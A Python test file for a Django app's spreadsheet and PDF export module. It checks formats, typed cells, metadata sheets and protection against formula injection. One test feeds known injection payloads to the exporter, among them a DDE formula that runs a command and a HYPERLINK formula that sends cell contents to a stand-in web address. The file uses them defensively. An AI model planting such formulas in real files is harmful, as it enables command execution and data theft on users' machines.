"""Exports: the same rows in every format, typed, described, and never alive."""

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from contextlib import closing, contextmanager
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any
from xml.etree import ElementTree

import pytest
from django.http import FileResponse
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook
from pypdf import PdfReader
from python_calamine import CalamineWorkbook

from jalons.kernel.exports import (
    FORMATS,
    Column,
    Kind,
    Sheet,
    TooManyRows,
    pdf_file,
    respond,
    xlsx_file,
)
from jalons.kernel.exports.formulas import neutral
from jalons.kernel.exports.sheet import typed
from jalons.kernel.exports.spreadsheet import tab_name

MADE_AT = datetime(2026, 11, 23, 8, 30, tzinfo=UTC)
TEXT = st.text(
    alphabet=st.one_of(
        st.characters(), st.sampled_from("=+-@＝＋－＠−'\"_x0041_,;|#N/A \t\n\r\x00\x1f\u200b")
    ),
    max_size=30,
)
STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "−", "\t", "\r", "\n")
TYPED_COLUMNS = [
    Column("name", "Nom"),
    Column("born", "Né le", Kind.DATE),
    Column("days", "Jours", Kind.INTEGER),
    Column("rate", "Taux", Kind.DECIMAL),
    Column("seen", "Vu le", Kind.MOMENT),
    Column("late", "En retard", Kind.YES_NO),
]
TYPED_ROW = {
    "name": "Magali Rousseau",
    "born": date(1988, 4, 12),
    "days": -30,
    "rate": Decimal("3.5"),
    "seen": MADE_AT,
    "late": True,
}


def texts(*values: str) -> Sheet:
    return Sheet("liste", "Liste", [Column("a", "A")], [{"a": value} for value in values])


def typed_sheet(rows: int = 1) -> Sheet:
    return Sheet(
        "file-active",
        "Ma file active",
        TYPED_COLUMNS,
        [TYPED_ROW] * rows,
        filters=[("Échéance", "en retard"), ("Recherche", "=1+1\n-2")],
        sources=["Finalité : suivi des parcours"],
        territory="Pays d’Orbelle",
        made_at=MADE_AT,
    )


@contextmanager
def download(sheet: Sheet, suffix: str) -> Iterator[FileResponse]:
    """The response, its file closed at the end, without the signal that closes connections."""
    response = respond(sheet, suffix)
    assert response.file_to_stream is not None
    with closing(response.file_to_stream):
        yield response


def content(sheet: Sheet, suffix: str) -> bytes:
    with download(sheet, suffix) as response:
        return b"".join(response)


def spreadsheet(sheet: Sheet, suffix: str, tab: int = 0) -> list[list[Any]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(content(sheet, suffix)))
    return book.get_sheet_by_index(tab).to_python(skip_empty_area=False)


def csv_rows(sheet: Sheet, delimiter: str = ";") -> list[list[str]]:
    text = content(sheet, "csv").decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


# Text in, the same text out


@example("_x003D_1+1")
@example("#N/A")
@example("  two  spaces \t tab ")
@example("a\r\nb\rc\x00\ud800\uffff")
@given(TEXT)
def test_any_text_comes_back_from_xlsx_and_ods(text: str) -> None:
    expected = neutral(text)
    for suffix in ("xlsx", "ods"):
        rows = spreadsheet(texts(text, "end"), suffix)
        assert rows == [["A"], [expected], ["end"]], suffix


@given(TEXT)
def test_any_text_comes_back_from_csv_but_for_inner_guards(text: str) -> None:
    rows = csv_rows(texts(text))
    assert rows[0] == ["A"]
    assert rows[1][0].replace("'", "") == neutral(text).replace("'", "")


@given(st.text(alphabet=st.characters(exclude_categories=["C"]), max_size=30))
def test_ordinary_text_is_not_touched(text: str) -> None:
    assert neutral(f"a{text}") == f"a{text}"


# Formulas


@pytest.mark.parametrize(
    "payload",
    [
        "=1+1",
        "+33 6 39 98 00 12",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u200b=1",
        "\ufeff=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "﹦1",
        "−1",
        "\x00=1",
        '=HYPERLINK("http://exemple.fr?"&A1)',
    ],
)
def test_formulas_get_an_apostrophe_in_every_format(payload: str) -> None:
    assert neutral(payload).startswith("'")
    for suffix in ("xlsx", "ods"):
        assert spreadsheet(texts(payload), suffix)[1][0].startswith("'")
    assert csv_rows(texts(payload))[1][0].startswith("'")


@given(TEXT)
def test_no_cell_starts_a_formula(text: str) -> None:
    sheet = texts(text)
    cells = [row[0] for row in csv_rows(sheet)[:2]]
    cells += [row[0] for suffix in ("xlsx", "ods") for row in spreadsheet(sheet, suffix)]
    assert not [cell for cell in cells if cell.lstrip(" \u200b").startswith(STARTS)]


@example('a";=1+1')
@example('a,=1+1,"\t@b')
@example("a\n=1+1")
@example('"\n')
@given(TEXT)
def test_csv_opened_with_another_separator_holds_no_formula_either(text: str) -> None:
    for delimiter in ",\t|":
        for row in csv_rows(texts(text), delimiter):
            assert not [cell for cell in row if cell.lstrip(' "\n').startswith(STARTS)]


@given(TEXT)
def test_spreadsheets_hold_no_formula_element(text: str) -> None:
    sheet = texts(text)
    book = load_workbook(io.BytesIO(content(sheet, "xlsx")))
    assert {cell.data_type for row in book["Liste"].iter_rows() for cell in row} <= {"s", "n"}
    assert b":formula=" not in zip_part(content(sheet, "ods"), "content.xml")


def zip_part(archive: bytes, name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(archive)).read(name)


def test_a_filter_typed_by_the_user_is_neutral_too() -> None:
    sheet = typed_sheet()
    for suffix in ("xlsx", "ods"):
        assert ["Filtre : Recherche", "'=1+1 -2"] in spreadsheet(sheet, suffix, tab=1)
    assert ["# Filtre : Recherche", "'=1+1 -2"] in csv_rows(sheet)


# Types


@pytest.mark.parametrize("suffix", ["xlsx", "ods"])
def test_dates_and_numbers_are_typed(suffix: str) -> None:
    header, row = spreadsheet(typed_sheet(), suffix)
    assert header == ["Nom", "Né le", "Jours", "Taux", "Vu le", "En retard"]
    local = datetime(2026, 11, 23, 9, 30)  # noqa: DTZ001
    assert row == ["Magali Rousseau", date(1988, 4, 12), -30, 3.5, local, "oui"]


def test_csv_writes_iso_dates_and_decimal_commas() -> None:
    row = csv_rows(typed_sheet())[1]
    assert row == ["Magali Rousseau", "1988-04-12", "-30", "3,5", "2026-11-23 09:30", "oui"]


@pytest.mark.parametrize("suffix", ["csv", "xlsx", "ods", "pdf"])
def test_empty_cells_and_empty_lists(suffix: str) -> None:
    blank = dict.fromkeys(TYPED_ROW)
    assert content(Sheet("vide", "Vide", TYPED_COLUMNS, [blank]), suffix)
    assert content(Sheet("vide", "Vide", TYPED_COLUMNS, []), suffix)


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("12", Kind.INTEGER),
        (True, Kind.INTEGER),
        (1.5, Kind.INTEGER),
        (float("nan"), Kind.DECIMAL),
        (Decimal("Infinity"), Kind.DECIMAL),
        (MADE_AT, Kind.DATE),
        (date(2026, 1, 1), Kind.MOMENT),
        (1, Kind.YES_NO),
    ],
)
def test_a_value_of_another_kind_is_refused(value: object, kind: Kind) -> None:
    with pytest.raises(TypeError):
        typed(value, kind)


def test_integers_beyond_a_spreadsheets_precision_stay_exact() -> None:
    sheet = Sheet("n", "N", [Column("n", "N", Kind.INTEGER)], [{"n": 10**15 + 1}, {"n": 5}])
    for suffix in ("xlsx", "ods"):
        assert spreadsheet(sheet, suffix)[1:] == [["1000000000000001"], [5]]


def test_dates_before_excels_calendar_are_written_in_full() -> None:
    sheet = Sheet("d", "D", [Column("d", "D", Kind.DATE)], [{"d": date(1899, 12, 30)}])
    assert spreadsheet(sheet, "xlsx")[1] == ["1899-12-30"]
    assert spreadsheet(sheet, "ods")[1] == [date(1899, 12, 30)]


def test_a_text_too_long_for_excel_says_so() -> None:
    cell = spreadsheet(texts("😀" * 20_000), "xlsx")[1][0]
    assert cell.endswith("😀…")
    assert len(cell.encode("utf-16-le")) // 2 <= xlsx_file.CHARACTERS


@given(TEXT)
def test_any_title_makes_an_acceptable_tab(title: str) -> None:
    name = tab_name(title)
    assert 0 < len(name) <= 31
    assert not re.search(r"[\[\]:*?/\\']", name)
    assert name != "Filtres"


# What the file says of itself


FACTS = [
    ["Titre", "Ma file active"],
    ["Territoire", "Pays d’Orbelle"],
    ["Export du", "lundi 23\u00a0novembre 2026 à 9\u00a0h\u00a030"],
    ["Source", "Finalité : suivi des parcours"],
    ["Filtre : Échéance", "en retard"],
    ["Filtre : Recherche", "'=1+1 -2"],
    ["Nombre de lignes", "2"],
]


@pytest.mark.parametrize("suffix", ["xlsx", "ods"])
def test_a_second_sheet_tells_filters_date_and_count(suffix: str) -> None:
    assert spreadsheet(typed_sheet(2), suffix, tab=1) == FACTS


def test_csv_tells_them_after_the_table_on_marked_lines() -> None:
    lines = csv_rows(typed_sheet(2))
    assert lines[3] == []
    assert lines[4:] == [[f"# {label}", value] for label, value in FACTS]
    assert content(typed_sheet(), "csv").startswith(b'\xef\xbb\xbf"Nom";')


def test_no_filter_is_said() -> None:
    assert ["# Filtre", "aucun"] in csv_rows(texts("a"))


def test_pdf_shows_rows_and_filters() -> None:
    reader = PdfReader(io.BytesIO(content(typed_sheet(), "pdf")))
    text = " ".join(page.extract_text() for page in reader.pages).replace("\u00a0", " ")
    for shown in ("Ma file active", "Magali Rousseau", "12/04/1988", "3,5", "en retard"):
        assert shown in text


def test_ods_is_a_well_formed_opendocument() -> None:
    archive = zipfile.ZipFile(io.BytesIO(content(typed_sheet(), "ods")))
    first = archive.infolist()[0]
    assert (first.filename, first.compress_type) == ("mimetype", zipfile.ZIP_STORED)
    assert archive.read("mimetype").decode() == FORMATS["ods"].content_type
    for name in ("content.xml", "META-INF/manifest.xml"):
        ElementTree.fromstring(archive.read(name))


# The response


@pytest.mark.parametrize("suffix", FORMATS)
def test_response_is_a_download_that_no_cache_keeps(suffix: str) -> None:
    with download(typed_sheet(), suffix) as response:
        size = len(b"".join(response))
    assert response.headers["Content-Type"] == FORMATS[suffix].content_type
    expected = f'attachment; filename="file-active-2026-11-23.{suffix}"'
    assert response.headers["Content-Disposition"] == expected
    assert response.headers["Cache-Control"] == "no-store"
    assert int(response.headers["Content-Length"]) == size


@pytest.mark.parametrize("suffix", FORMATS)
def test_rows_are_read_before_the_response_exists(suffix: str) -> None:
    read = []

    def rows() -> Iterator[dict[str, object]]:
        read.append("started")
        yield {"a": "x"}
        read.append("ended")

    with download(Sheet("liste", "Liste", [Column("a", "A")], rows()), suffix):
        assert read == ["started", "ended"]


@pytest.mark.parametrize("name", ["Magali Rousseau", "été", "a/b", "-a", "", "a\n"])
def test_a_file_name_is_never_a_typed_text(name: str) -> None:
    with pytest.raises(ValueError, match="lower-case"):
        Sheet(name, "Liste", [], [])


def test_too_many_rows_for_the_format(monkeypatch: pytest.MonkeyPatch) -> None:
    for module, suffix in ((pdf_file, "pdf"), (xlsx_file, "xlsx")):
        monkeypatch.setattr(module, "ROWS", 2)
        assert content(texts("a", "b"), suffix)
        with pytest.raises(TooManyRows) as caught:
            respond(texts("a", "b", "c"), suffix)
        assert caught.value.limit == 2
